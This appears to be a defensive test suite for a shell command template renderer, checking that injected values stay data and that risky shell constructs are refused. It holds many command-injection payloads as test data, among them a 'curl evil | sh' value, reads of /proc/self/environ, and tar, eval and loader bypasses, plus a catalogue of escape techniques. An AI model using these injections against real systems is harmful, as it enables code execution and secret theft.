import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { seededRandom } from '../../../../test/support/random.js';
import { BASH_BUILTIN_CLASSES } from './shell-placeholders.js';
import { CommandTemplateError, createCommandLiquid, readExitStatus, renderCommand, withExitMarker, EXIT_MARKER } from './run-command.js';

const sandbox = mkdtempSync(path.join(os.tmpdir(), 'pb-shell-'));
afterAll(() => rmSync(sandbox, { recursive: true, force: true }));
const shells = ['/bin/sh', '/bin/bash'].filter((shell) => existsSync(shell));
const run = (shell: string, command: string, env: Record<string, string> = {}) =>
  execFileSync(shell, ['-c', command], { encoding: 'utf8', cwd: sandbox, env: { PATH: '/usr/bin:/bin', ...env } });
const sh = (command: string) => run('/bin/sh', command);

const liquid = createCommandLiquid();

describe('values reach the dyno as data, in every quoting position', () => {
  // Each would run something (or expand) if it were command text; `touch` leaves a file behind.
  const hostile = [
    `x"; touch dq; "`,
    `x'; touch sq; '`,
    '$(touch subst)',
    '`touch backtick`',
    '${IFS}$(touch ifs)',
    "$'\\'; touch ansi; '",
    ') ; touch paren ; (',
    '\\"\\\'; touch bs',
    '* ?',
    '  two  spaces\tand tab  ',
    'line one\n; touch newline',
    '# not a comment; touch hash',
    '))); touch arith',
    '%s -n',
    'déjà vu ✓',
    '',
  ];
  // The author's template around `{{ v }}`; every line must print the value exactly.
  const positions: [string, string][] = [
    ['bare', `printf '%s\\n' {{ v }}`],
    ['bare inside a word', `printf '%s\\n' pre{{ v }}post`],
    ['double quotes', `printf '%s\\n' "pre {{ v }} post"`],
    ['single quotes', `printf '%s\\n' 'pre {{ v }} post'`],
    ['after a comment on an earlier line', `# {{ v }}\nprintf '%s\\n' {{ v }}`],
  ];
  const expected: Record<string, (value: string) => string> = {
    bare: (v) => v,
    'bare inside a word': (v) => `pre${v}post`,
    'double quotes': (v) => `pre ${v} post`,
    'single quotes': (v) => `pre ${v} post`,
    'after a comment on an earlier line': (v) => v,
  };

  for (const shell of shells) {
    describe(shell, () => {
      it.each(positions)('%s', (name, template) => {
        // Every hostile value through the position at once: one line each.
        const rendered = renderCommand(liquid, `{% for v in values %}${template}\n{% endfor %}`, { values: hostile });
        // The command text holds references only; the values are in the environment.
        for (const value of hostile.filter((v) => v.length > 2)) expect(rendered.command).not.toContain(value);
        expect(rendered.command).not.toMatch(/touch|IFS|\*/);
        expect(Object.values(rendered.env).sort()).toEqual([...hostile].sort());
        expect(run(shell, rendered.command, rendered.env)).toBe(hostile.map((value) => `${expected[name]!(value)}\n`).join(''));
        expect(readdirSync(sandbox)).toEqual([]);
      });
    });
  }

  it('an author wrapping a value in quotes of every kind still gets the value, and a value is never text of the command', () => {
    const rendered = renderCommand(liquid, `echo {{ t }} "{{ t }}" '{{ t }}' on {{ app.name | upcase }}`, { t: 'x"; curl evil | sh; "', app: { name: 'shop' } });
    expect(rendered.command).toBe(`echo "\${PB_1}" "\${PB_1}" ''"\${PB_1}"'' on "\${PB_2}"`);
    expect(rendered.env).toEqual({ PB_1: 'x"; curl evil | sh; "', PB_2: 'SHOP' });
    expect(rendered.display).toBe(`${rendered.command}  # PB_1="x\\"; curl evil | sh; \\"" PB_2="SHOP"`);
    expect(sh(Object.entries(rendered.env).map(([k, v]) => `${k}=${JSON.stringify(v).replace(/\$/g, '\\$')}`).join(' ') + ' ; export PB_1 PB_2; ' + rendered.command)).toBe(
      `${'x"; curl evil | sh; "'} ${'x"; curl evil | sh; "'} ${'x"; curl evil | sh; "'} on SHOP\n`,
    );
  });

  it('a value that looks like a marker never stands for another value, even made by a filter', () => {
    for (const template of ['echo {{ secret }} >/dev/null; echo public: {{ title }}', 'echo {{ secret }} >/dev/null; echo public: {{ title | url_decode }}']) {
      for (const title of ['\uE0000\uE001', '\uE0000.0000000000000000\uE001', '%EE%80%800%EE%80%81']) {
        const rendered = renderCommand(liquid, template, { secret: 's3cr3t', title });
        expect(Object.keys(rendered.env)).toEqual(['PB_1', 'PB_2']);
        expect(rendered.env.PB_2).not.toContain('s3cr3t');
      }
    }
  });

  it('a value that would make an argument of a script an option may not start one, whatever comes before it', () => {
    const values = { path: '--include=*', nothing: '' };
    const option = /a value that starts with "-" at the start of an argument of bin\/report \(it would be read as an option; write it after --name= or after text\)/;
    expect(() => renderCommand(liquid, 'bin/report {{ path }} .', values)).toThrow(option);
    expect(() => renderCommand(liquid, 'bin/report "{{ path }}" .', values)).toThrow(option);
    // -- is no defence: it may be an option's argument.
    expect(() => renderCommand(liquid, 'bin/report -- {{ path }} .', values)).toThrow(option);
    // Nor is an expansion or a value that comes out empty in front of it.
    expect(() => renderCommand(liquid, 'bin/report "$NOPE"{{ path }} .', values)).toThrow(option);
    expect(() => renderCommand(liquid, 'bin/report {{ nothing }}"$HOME"{{ path }} .', values)).toThrow(option);
    expect(() => renderCommand(liquid, 'bin/report "$(echo {{ path }})"', values)).toThrow(/\$\(\.\.\.\) in a command with values \(put it in a script in the app\)/);
    // A value inside a short option, or before the = of a long one, could add options of its own (tar -c{{ x }}f with Itouch PWNED).
    for (const template of ['bin/report -c{{ path }}', 'bin/report -a=x{{ path }}', 'bin/report --x{{ path }}=y']) {
      expect(() => renderCommand(liquid, template, values), template).toThrow(/a value inside an option of bin\/report other than after the = of a --long=option/);
    }
    expect(renderCommand(liquid, 'bin/report --match={{ path }} .', values).command).toBe('bin/report --match="${PB_1}" .');
    expect(renderCommand(liquid, 'bin/report ./{{ path }}', values).command).toBe('bin/report ./"${PB_1}"');
    // echo prints its values whatever they start with; printf after a written-out format.
    expect(Object.values(renderCommand(liquid, 'echo "path: {{ path }}"', values).env)).toEqual([values.path]);
    expect(() => renderCommand(liquid, 'printf -- {{ path }} x', values)).toThrow(/printf without a written-out format first/);
    expect(renderCommand(liquid, 'bin/report {{ path }} .', { path: 'timeout' }).command).toBe('bin/report "${PB_1}" .');
  });

  it('text filters take only the options that read no file and run nothing, and no standard input as a file', () => {
    for (const template of ["bin/x {{ app }} | grep -c -e ERROR log | sort -k2,2nr -t, | uniq -c | head -n 5", "bin/x {{ app }} | jq -r '.items[]' | cut -d, -f2 | tail -n +2", "bin/x {{ app }}; date +%F; ls -la log"]) {
      expect(() => renderCommand(liquid, template, { app: 'shop' }), template).not.toThrow();
    }
    expect(() => renderCommand(liquid, 'echo {{ app }} | sort -o out', { app: 'shop' })).toThrow(/sort -o \(with values, sort takes only options that read no file and run nothing\)/);
    expect(() => renderCommand(liquid, 'echo {{ app }} | cat /proc/self/environ', { app: 'shop' })).toThrow(/\/proc\/self\/environ as a file of cat/);
    expect(() => renderCommand(liquid, 'echo {{ app }} | grep "$PATTERN" log', { app: 'shop' })).toThrow(/an argument of grep with \$ in it/);
    // echo: a value may not be its first argument's start when it starts with - (bash reads -e as an option).
    expect(() => renderCommand(liquid, 'echo {{ a }} {{ b }}', { a: '-e', b: 'x' })).toThrow(/a value that could make an option of echo/);
    expect(() => renderCommand(liquid, 'echo -n {{ a }} {{ b }}', { a: '-e', b: 'x' })).toThrow(/a value that could make an option of echo/);
    expect(() => renderCommand(liquid, 'echo -{{ a }} x', { a: 'e' })).toThrow(/a value that could make an option of echo/);
    expect(renderCommand(liquid, 'echo x {{ a }}', { a: '-e' }).command).toBe('echo x "${PB_1}"');
    expect(renderCommand(liquid, 'echo "Title: {{ a }}"', { a: '-e' }).command).toBe('echo "Title: ${PB_1}"');
  });

  it("with values, a command is one of the app's own scripts, echo or printf, or a builtin or text filter that takes no values", () => {
    for (const template of ['bin/diagnose {{ app }}', './scripts/check {{ app }}', 'echo {{ app }}', 'echo {{ app }} | sort | uniq -c | head -n 5', 'set -euo pipefail; bin/x {{ app }} | grep -c -- ERROR']) {
      expect(() => renderCommand(liquid, template, { app: 'shop' }), template).not.toThrow();
    }
    for (const template of ['tar -xf release.tar {{ app }}', 'git -c {{ app }} status', 'split --filter={{ app }}', '/proc/self/exe -c {{ app }}', '/usr/bin/env {{ app }}', '../bin/x {{ app }}', 'bin/rails runner {{ app }}']) {
      expect(() => renderCommand(liquid, template, { app: 'shop' }), template).toThrow(/it runs its arguments as code|with values, a command is one of the app's own scripts/);
    }
    // Filters and builtins read files, options and places from their arguments: values reach them through a pipe only.
    for (const template of ['tail -n 100 log/{{ app }}', 'grep {{ app }} log', 'tail {{ app }} log', 'sleep {{ app }}']) {
      expect(() => renderCommand(liquid, template, { app: 'shop' }), template).toThrow(/a value as an argument of (tail|grep|sleep) \(values may be arguments of the app's scripts, echo and printf; pipe them/);
    }
    expect(() => renderCommand(liquid, 'echo {{ app }} | sort --compress-program=sh', { app: 'shop' })).toThrow(/sort --compress-program=sh \(with values, sort takes only options that read no file and run nothing\)/);
  });

  it('a value built by capture or assign is still data', () => {
    const rendered = renderCommand(liquid, `{% capture c %}[{{ v }}]{% endcapture %}{% assign a = v | append: '!' %}printf '%s %s\\n' {{ c }} "{{ a }}"`, { v: '$(touch cap)' });
    expect(rendered.env).toEqual({ PB_1: '[$(touch cap)]', PB_2: '$(touch cap)!' });
    expect(run('/bin/sh', rendered.command, rendered.env)).toBe('[$(touch cap)] $(touch cap)!\n');
    expect(readdirSync(sandbox)).toEqual([]);
  });

  it('refuses `raw`, a value inside shell arithmetic, and reserved characters', () => {
    expect(() => renderCommand(liquid, 'echo {{ incident.title | raw }}', {})).toThrow(/the "raw" filter is not available in commands/);
    expect(() => renderCommand(liquid, 'echo $(( {{ n }} + 1 ))', { n: 'a[$(touch x)]' })).toThrow(/shell arithmetic \(\$\(\( \)\)\) is not allowed in a command with values \(line 1, at "\$\(\( \{\{…\}\} \+ 1 \)\)"\)/);
    expect(() => renderCommand(liquid, 'echo \uE0000\uE001', {})).toThrow(/reserved character/);
    // A value that looks like a marker stays a value.
    expect(renderCommand(liquid, 'echo {{ v }}', { v: '\uE0000\uE001 $(id)' }).command).toBe('echo "${PB_1}"');
  });

  it('equal values share a variable; too many distinct values are refused', () => {
    expect(renderCommand(liquid, 'echo {{ a }} {{ a }} {{ b }}', { a: 'x', b: 'y' }).env).toEqual({ PB_1: 'x', PB_2: 'y' });
    expect(() => renderCommand(liquid, '{% for i in (1..101) %}{{ i }}{% endfor %}', {})).toThrow(/exceeds the limits for commands \(more than 100 distinct values/);
  });

  it('a command without values passes no environment', () => {
    expect(renderCommand(liquid, 'echo hello', {})).toEqual({ command: 'echo hello', env: {}, display: 'echo hello' });
  });

  it('a broken template is refused', () => {
    expect(() => renderCommand(createCommandLiquid(), 'echo {{ x | nope }}', {})).toThrow(/command is not a valid template: undefined filter: nope/);
    expect(() => renderCommand(createCommandLiquid(), 'echo {{ x | nope }}', {})).toThrow(CommandTemplateError);
  });
});

describe('exit status marker', () => {
  it('is appended and read back from real shell output', () => {
    expect(readExitStatus(sh(withExitMarker('echo hello')))).toEqual({ output: 'hello\n', exitStatus: 0 });
    expect(readExitStatus(sh(withExitMarker('echo oops; false')))).toEqual({ output: 'oops\n', exitStatus: 1 });
    expect(readExitStatus(sh(withExitMarker('sh -c "exit 3"')))).toEqual({ output: '', exitStatus: 3 });
    // `exit` ends the command, not the wrapper, and a trailing comment does not break it.
    expect(readExitStatus(sh(withExitMarker('echo bye; exit 4')))).toEqual({ output: 'bye\n', exitStatus: 4 });
    expect(readExitStatus(sh(withExitMarker('echo hi # a comment')))).toEqual({ output: 'hi\n', exitStatus: 0 });
    expect(readExitStatus(sh(withExitMarker("printf 'no newline'")))).toEqual({ output: 'no newline', exitStatus: 0 });
  });
  it('is absent when the command did not finish', () => {
    expect(readExitStatus('partial output')).toEqual({ output: 'partial output', exitStatus: null });
    expect(readExitStatus(`${EXIT_MARKER} 0\nmore`).exitStatus).toBeNull();
  });
});

describe('commands where the shell could evaluate a value, or whose quoting cannot be followed', () => {
  const liquid = createCommandLiquid();
  const hostile = { title: 'x[$(touch PWNED)]', app: { name: 'shop' }, dash: '--to-command=touch PWNED' };
  // Every way an attack review got a value to run, and the shell features around them.
  it.each([
    ['[[ numeric test ]]', 'if [[ {{ title }} -gt 3 ]]; then echo big; fi'],
    ['(( ))', '(( {{ title }} > 3 )) && echo big'],
    ['let', 'let n={{ title }}+1'],
    ['$[ ]', 'echo $[ {{ title }} + 1 ]'],
    ['C-style for', 'for (( i=0; i<{{ title }}; i++ )); do :; done'],
    ['substring offset', 's=hello; echo "${s:{{ title }}}"'],
    ['array subscript', 'a[{{ title }}]=1'],
    ['declare -i', 'declare -i n={{ title }}'],
    ['printf -v', 'printf -v {{ title }} %s hi'],
    ['printf with a value first (it could be -v)', 'printf {{ title }} {{ app.name }} x'],
    ['heredoc', 'cat <<EOF\nDeploy "fix\nEOF\nfind . -name {{ title }}'],
    ['here-string', 'cat <<< {{ title }}'],
    ['case', 'echo "$(case {{ app.name }} in shop) find . -name {{ title }};; esac)"'],
    ['sh -c', "bash -c 'echo {{ title }}'"],
    ['ssh', 'ssh host "echo {{ title }}"'],
    ['eval', 'eval echo {{ title }}'],
    ['eval spelled with quotes', "e'va'l echo {{ title }}"],
    ['eval spelled with a backslash', '\\eval echo {{ title }}'],
    ['xargs', 'echo {{ title }} | xargs echo'],
    ['find -exec', 'find . -name x -exec echo {{ title }} ;'],
    ['an interpreter', 'psql -c "select \'{{ title }}\'"'],
    ['an interpreter as an argument', 'bundle exec ruby -e "puts \'{{ title }}\'"'],
    ['indirect expansion', 'name="{{ title }}"; echo "${name} is ${!name}"'],
    ['indirect expansion with a default', 'n={{ title }}; echo "${!n-unset}"'],
    ['[ -v ]', 'if [ -v "{{ title }}" ]; then echo configured; fi'],
    ['test -v', 'test -v "{{ title }}" && echo set'],
    ['test with a value that could be an operator', 'test {{ app.name }} {{ title }} && echo set'],
    ['/usr/bin/test', '/usr/bin/test {{ app.name }} {{ title }}'],
    ['unset', 'unset {{ title }}'],
    ['read', 'echo hi | read {{ title }}'],
    ['export', 'export {{ title }}'],
    ['compgen', 'compgen -W "{{ title }}"'],
    ['a shell by its path', "/bin/sh -c 'echo {{ title }}'"],
    ['a versioned interpreter', 'python3.11 -c "print(\'{{ title }}\')"'],
    ['rails runner', 'rails runner "puts \'{{ title }}\'"'],
    ['bin/rails runner', 'bin/rails runner "puts \'{{ title }}\'"'],
    ['escaped quotes in backticks', 'echo "Title: `echo \\"{{ title }}\\"`"'],
    ['backticks', 'echo `echo {{ title }}`'],
    ["$'...'", "echo $'pre {{ title }} post'"],
    ['$"..."', 'echo $"pre {{ title }} post"'],
    ['$ before a value', 'echo ${{ title }}'],
    ['a backslash before a value', 'echo \\{{ title }}'],
    ['# after a non-breaking space', 'echo Incident\u00a0#{{ title }}'],
    ['a pattern operator', 'X=zzabc; echo "${X##{{ title }}}"'],
    ['a substitution', 'X=abc; echo "${X/b/{{ title }}}"'],
    ['a variable assignment', 'PS4={{ title }} ls'],
    ['a value as the command', '{{ title }} --help'],
    ['a variable as the command', '$CMD {{ title }}'],
    ['a subshell', '( echo {{ title }} )'],
    ['a group', '{ echo {{ title }}; }'],
    ['brace expansion', 'echo {a,b}{{ title }}'],
    ['process substitution', 'diff <(echo {{ title }}) x'],
    ['a value as a redirection target', 'echo hi > {{ title }}'],
    ['an unclosed quote', 'echo "{{ title }}'],
    ['an unclosed $(', 'echo $(echo {{ title }}'],
    ['a carriage return', 'echo a\rb {{ title }}'],
    ['a function', 'f() { echo {{ title }}; }; f'],
    ['select', 'select x in {{ title }}; do break; done'],
    ['time -p', 'time -p eval {{ title }}'],
    ['source', '. ./script {{ title }}'],
    ['exit with a value', 'exit {{ title }}'],
    // A third review: where the parser and the shells read the text differently, and variables the grammar let a value reach.
    ['for NAME do (no in)', 'for x do eval {{ title }}; done'],
    ['a line-continued keyword', 'i\\\nf eval {{ title }}; then :; fi'],
    ['a line-continued then', 'if true; th\\\nen {{ title }} {{ app.name }}; fi'],
    ['a line-continued heredoc', 'cat <\\\n<EOF >/dev/null\nx "\nEOF\neval {{ title }} #"'],
    ['a line-continued assignment', 'A\\\n=1 eval {{ title }}'],
    ['an assignment with a long name', `${'A'.repeat(260)}=1 eval {{ title }}`],
    ['>& followed by a word', 'echo hi >&2#; eval {{ title }}'],
    ['>& followed by a word, first', 'true; >&2x eval {{ title }}'],
    ['&> (sh reads & and >)', 'echo hi &>/dev/null eval {{ title }}'],
    ['a pattern as the command', '/bin/da?h -c {{ title }}'],
    ['a pattern naming a shell as an argument', 'setsid /bin/da?h -c {{ title }}'],
    ['a for loop over a special variable', 'for PS4 in {{ title }}; do set -x; echo traced; set +x; done'],
    ['a for loop over values', 'for x in {{ title }}; do echo "$x"; done'],
    ['set -a', 'set -a; echo {{ title }}'],
    ['set -k', 'set -k; ldd /bin/true BASH_ENV={{ title }}'],
    ['ed', 'echo {{ title }} | ed -s'],
    ['make', "printf 'x:\\n\\t%s\\n' {{ title }} | make -s -f -"],
    ['gdb', 'gdb -batch -ex {{ title }}'],
    ['npx', 'npx -c {{ title }}'],
    ['ssh-agent', 'ssh-agent {{ app.name }} -c {{ title }}'],
    ['$PB_n written by hand', 'set $PB_1; echo {{ title }}'],
    ['${PB_n} written by hand', 'kill -0 ${PB_1} && echo {{ title }}'],
    ['a value in a >& target', 'echo secret >&1{{ title }}'],
    ['a word after fi', 'if true; then echo {{ title }}; fi eval x'],
    ['if without fi', 'if true; then echo {{ title }}'],
    ['done without a loop', 'echo {{ title }}; done'],
    ['$(...) as an argument of kill', 'kill "$(echo {{ title }})"'],
    ['$(...) outside quotes', 'ls a$(echo {{ title }})'],
    ['$(...) leading an argument before --', 'ls "$(echo {{ title }})"'],
    // A fifth review: the shell under another name, expansions that split banned words, values through cd's variables, patterns, options glued to values, files run after being written.
    ['/proc/self/exe', '/proc/self/exe -c {{ title }}'],
    ['an expansion splitting a banned word', 'find . -maxdepth 0 -ex${U}ec /bin/s${U}h -c {{ title }} ;'],
    ['logsave', 'echo {{ title }} | logsave /dev/null xargs touch'],
    ['$PWD after cd', 'mkdir -p {{ title }} && cd {{ title }} && grep x "$PWD"'],
    ['$DIRSTACK', 'cd {{ title }}; ls "$DIRSTACK"'],
    ['~- after cd', 'cd {{ title }}; cd /; ls ~-'],
    ['a pattern matching files a value named', 'touch ./{{ title }} && ls *=*'],
    ['a loop over a pattern', 'for f in *; do grep x "$f" {{ title }}; done'],
    ["tar's dash-less options", 'tar {{ title }} /dev/null {{ app.name }} .'],
    ['a value glued to an option', 'grep -c{{ title }} log'],
    ['tar --to-command', 'tar -xf t.tar --to-command={{ title }}'],
    ['git -c', 'git -c {{ title }} status'],
    ['a file written then run', 'echo {{ title }} > s; ./s'],
    ['a control character in a comment', 'echo {{ title }} # a\u0007b'],
    ['$NAME outside quotes', 'grep -r {{ title }} $HOME'],
    // An eighth review: cd makes system programs look like the app's scripts; buildpacks' bin/ holds interpreters; background jobs.
    ['cd / then bin/tar', 'cd / && bin/tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec={{ title }} etc/hostname'],
    ['cd .. then bin/cat', 'cd ../../.. && bin/cat {{ title }}'],
    ["the Ruby buildpack's bin/ruby.exe", 'bin/ruby.exe -e {{ title }}'],
    ["the Ruby buildpack's bin/erb", 'echo {{ title }} | bin/erb'],
    ["Rails' bin/docker-entrypoint", 'bin/docker-entrypoint {{ title }} {{ app.name }}'],
    ['the JDK in .jdk', '.jdk/bin/java -jar {{ title }}'],
    ['a filter file through //proc', 'echo {{ title }} | cat //proc/self/environ'],
    ['a filter file through ..', 'echo {{ title }} | cat ../../../../proc/self/environ'],
    ['a background job', 'bin/x ok; sleep 1 && echo {{ title }} &'],
    // A seventh review: the text filters' options that write files, read files named on standard input, or take a program from it.
    ['sort --compress-program behind an empty expansion', 'echo {{ title }} | sort -S 1 --compress-program="$NOPE"sh'],
    ['sort -o over a script, then the script', 'echo {{ title }} | sort -o bin/x; bin/x'],
    ['uniq writing a second file', 'echo {{ title }} | uniq - bin/x; bin/x'],
    ['sort --files0-from=-', 'printf %s {{ title }} | sort --files0-from=- | grep SECRET'],
    ['wc --files0-from', 'printf %s {{ title }} | wc --files0-from=-'],
    ['jq -f /dev/stdin', 'echo {{ title }} | jq -n -r -f /dev/stdin'],
    ['grep -f -', 'echo {{ title }} | grep -f - log'],
    ['grep --exclude-from', 'echo {{ title }} | grep -r --exclude-from=- x .'],
    ['a dependency\'s program', 'node_modules/.bin/anything {{ title }}'],
    ['--= with no option name', 'bin/x --={{ title }}'],
    // A sixth review: bash 5.1 misreads a quote after a plain $ and a reserved word as a file inside $(...); tail reads +N as an option.
    ['a plain $ then a quote inside $(...)', 'echo "$(printf %s $ \'x\\\' "\'; {{ title }} ; ")" $ \'y\\\' "\')"'],
    ['case as a file inside $(...)', 'echo "Open cases: $(wc <case)" \'"; esac )\' "; {{ title }} ; " #"'],
    ['a value as an argument of tail', 'tail {{ title }} log'],
    ['a value in a file name', 'tail -n 100 log/{{ title }}'],
    ['printf -- with a value as the format', 'printf -- {{ title }} x'],
    ['~0 after cd', 'cd /; ls -d ~0 && echo {{ title }}'],
    ['cd to a value', 'cd {{ title }} && bin/x'],
    // A fourth review: bash 5.1 scans $(...) for reserved words; $_ and $0; loops over "$(...)"; disguised shells.
    ['>| then case inside $(...) (bash 5.1)', 'echo "$(date >|case x)" \'"; esac )\' "; {{ title }} ; " #"'],
    ['case as a word inside $(...)', 'echo "$(echo case {{ title }})"'],
    ['a reserved word inside $(...)', 'echo "$(if true; then echo {{ title }}; fi)"'],
    ['$(...) in double quotes', `printf '%s\\n' "$(printf '%s' {{ title }})"`],
    ['$(...) with no value in it', 'echo "deployed $(date)" {{ title }}'],
    ['a comment inside $(...)', 'echo "$(echo x # {{ title }}\n)"'],
    ['>|', 'echo {{ title }} >| out'],
    ['a for loop over "$(...)"', 'for x in "$(echo {{ title }})"; do tar -cf /dev/null "$x" .; done'],
    ['$_', 'echo {{ title }} >/dev/null; tar -cf /dev/null "$_" .'],
    ['$0 as a program', 'linux64 "$0" -c {{ title }}'],
    ['$BASH', 'ld.so "$BASH" -c {{ title }}'],
    ['setpriv', 'setpriv /bin/sh -c {{ title }}'],
    ['the dynamic loader', '/lib64/ld-linux-x86-64.so.2 /bin/sh -c {{ title }}'],
    ['a versioned perl with its platform', 'perl5.36-x86_64-linux-gnu -e {{ title }}'],
    ['a redirection before a reserved word', '>f if true; then echo {{ title }}; fi'],
    ['a redirection to # (a comment to the shells)', 'echo {{ title }} >#x'],
    ['an operator without a command after it', 'echo {{ title }} &&'],
    ['an operator without a command before it', '; echo {{ title }}'],
    ['then twice', 'if true; then echo {{ title }}; then echo x; fi'],
    ['else before then', 'if true; else echo {{ title }}; fi'],
    ['an empty then', 'if true; then fi; echo {{ title }}'],
    ['an empty $(...)', 'echo "$()" {{ title }}'],
    ['# in a word inside $(...) (bash 5.1 may read a comment)', 'echo "$(echo "a"# )" ; echo {{ title }} ; : "\n)"'],
  ])('%s is refused when the command has values', (_name, template) => {
    expect(() => renderCommand(liquid, template, hostile)).toThrow(/is not allowed in a command with values \(line \d+, at ".*"\): a command with values may use/);
  });

  // Written the same way, these are plain shell: allowed, and the value stays data.
  it.each([
    ['# after an escaped blank', 'echo Incident\\ #{{ title }}', `Incident #${hostile.title}\n`],
    ['a # comment', 'echo {{ title }} # {{ title }} $(touch comment)', `${hostile.title}\n`],
    ['a for loop over written-out words', 'for t in one two; do echo "[$t]" {{ title }}; done', `[one] ${hostile.title}\n[two] ${hostile.title}\n`],
    ['./ before values that start with -', 'printf \'%s\\n\' ./{{ dash }}', './--to-command=touch PWNED\n'],
    ['set -eu', 'set -eu; set +u; echo {{ title }}', `${hostile.title}\n`],
    ['if, &&, || and a pipe', 'if true; then echo {{ title }} | cat && echo ok || echo no; fi', `${hostile.title}\nok\n`],
    ['redirections', 'echo {{ title }} 2>&1 >/dev/null; echo {{ app.name }} >&2 2>/dev/null; echo done', 'done\n'],
    ['printf with its format first', "printf '%s|%s\\n' {{ title }} {{ app.name }}", `${hostile.title}|shop\n`],
    ['$NAME, ${NAME}, $? and a plain $', 'echo "x$NONE${NONE}$" {{ app.name }} $?', 'x$ shop 0\n'],
  ])('%s runs with the value as data', (_name, template, output) => {
    const rendered = renderCommand(liquid, template, hostile);
    for (const shell of shells) {
      expect(run(shell, rendered.command, rendered.env)).toBe(output);
    }
    expect(readdirSync(sandbox)).toEqual([]);
  });

  it('the same constructs are allowed in a command without values', () => {
    expect(renderCommand(liquid, 'if [[ 5 -gt 3 ]]; then bash -c "echo big"; fi', hostile).env).toEqual({});
  });

  it.runIf(existsSync('/bin/bash'))('knows every bash builtin: each is safe with values, safe without them, or refused', () => {
    const builtins = execFileSync('/bin/bash', ['-c', 'compgen -b'], { encoding: 'utf8' }).trim().split('\n');
    const classes = Object.values(BASH_BUILTIN_CLASSES);
    expect(builtins.filter((name) => !classes.some((names) => names.has(name)))).toEqual([]);
  });
});

describe('random commands with hostile values never run a value', () => {
  // Commands written by the grammar's rules, then mutated with pieces of shell inserted at random
  // places: each is either refused or runs without any value running as code (every hostile
  // value would leave a PWNED file behind).
  const values = {
    a: 'x[$(touch PWNED1)]',
    b: '$(touch PWNED2)',
    c: '-v',
    d: 'a[$(touch PWNED3)]`touch PWNED4`\'"; touch PWNED5; "\'',
  };
  const pieces = [
    '"', "'", '$(', ')', '(', '`', ';', '|', '&&', '\n', '#', '\\', '[[', ']]', '[', ']', '$((', '((', '$[', '${', '}', '${!', '!',
    '=', 'a=', 'let', 'declare -i', '-v', 'test', 'eval', 'read', 'export', 'unset', 'printf -v', 'bash -c', 'sh -c', '<<', '<<<',
    'EOF', 'case', 'esac', '$', "$'", '$"', '{', '${x:', 'IFS=', 'PS4=', 'set -x', '\u00a0', '\t', '\\"', "\\'", '\\ ', 'x=(',
    '{{ a }}', '{{ b }}', '{{ c }}', '{{ d }}', 'source', 'exec', 'command', 'time', 'f()', ';;', '|&', '&>', '<(', '$@',
  ];
  // A small deterministic generator, so a failure names a command that can be run again.
  const random = seededRandom(20261206);
  const pick = <T,>(list: readonly T[]): T => list[random(list.length)]!;
  const argument = (depth: number): string =>
    pick([
      () => '{{ a }}', () => '"{{ b }}"', () => "'{{ c }}'", () => 'pre{{ d }}post', () => '"pre {{ a }} $x post"',
      () => `'pre {{ b }}'"{{ c }}"`, () => '$x', () => '"$PB_1"', () => '${PB_2}', () => '-v', () => '--', () => '>/dev/null',
      () => '2>&1', () => `"$(${list(depth + 1)})"`, () => `x"$(${list(depth + 1)})"`, () => '\\ ', () => 'a#{{ b }}', () => '~', () => '*',
      () => '# note {{ a }}\n', () => 'x=y', () => '"{{ d }}{{ a }}"',
    ])();
  const simple = (depth: number): string =>
    [pick(['echo', 'echo', "printf '%s\\n'", 'bin/x', './run', 'bin/x --', 'echo -e', 'printf', 'cat', 'true']),
      ...Array.from({ length: random(4) }, () => (depth > 2 ? '{{ a }}' : argument(depth)))].join(' ');
  const command = (depth: number): string =>
    pick([
      () => simple(depth),
      () => simple(depth),
      () => `if ${simple(depth)}; then ${simple(depth)}; else ${simple(depth)}; fi`,
      () => `for v in one 'two three'; do ${simple(depth)} "$v"; done`,
      () => `while false; do ${simple(depth)}; done`,
      () => `! ${simple(depth)}`,
    ])();
  const list = (depth: number): string =>
    Array.from({ length: 1 + random(3) }, () => command(depth)).join(pick([' ; ', ' && ', ' || ', ' | ', '\n', ' & wait; ']));
  const mutate = (text: string): string => {
    let out = text;
    for (let n = random(2) * (1 + random(2)); n > 0; n--) {
      const at = random(out.length + 1);
      out = out.slice(0, at) + pick(pieces) + out.slice(at);
    }
    return out;
  };
  const commands = Array.from({ length: 800 }, () => mutate(list(0)));

  it.each(shells)('%s', (shell) => {
    let ran = 0;
    for (const template of commands) {
      let rendered;
      try {
        rendered = renderCommand(liquid, template, values);
      } catch (error) {
        if (error instanceof CommandTemplateError) continue;
        throw error;
      }
      if (Object.keys(rendered.env).length > 0) ran++;
      // timeout kills the shell's whole process group, so no loop it started outlives it.
      spawnSync('timeout', ['-s', 'KILL', '2', shell, '-c', rendered.command], { cwd: sandbox, env: { PATH: '/usr/bin:/bin', ...rendered.env }, stdio: 'ignore', timeout: 5000 });
      const left = readdirSync(sandbox);
      for (const file of left) rmSync(path.join(sandbox, file), { recursive: true, force: true });
      expect({ template, left: left.filter((file) => file.startsWith('PWNED')) }).toEqual({ template, left: [] });
    }
    // Most commands are accepted: the grammar is what people write.
    expect(ran).toBeGreaterThan(40);
  });
});
